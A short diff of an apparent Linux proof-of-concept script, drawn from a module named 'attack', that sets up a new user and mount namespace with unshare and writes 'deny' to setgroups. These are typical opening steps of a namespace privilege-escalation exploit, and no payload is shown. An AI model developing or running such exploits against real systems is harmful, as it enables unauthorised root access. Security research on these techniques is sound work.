@@ -3,7 +3,9 @@
 # proof: canary
 # source: mount namespaces
 import os
+
 from attack import call
+
 uid, gid = os.getuid(), os.getgid()
 call("unshare", 0x10020000)
 open("/proc/self/setgroups", "w").write("deny")
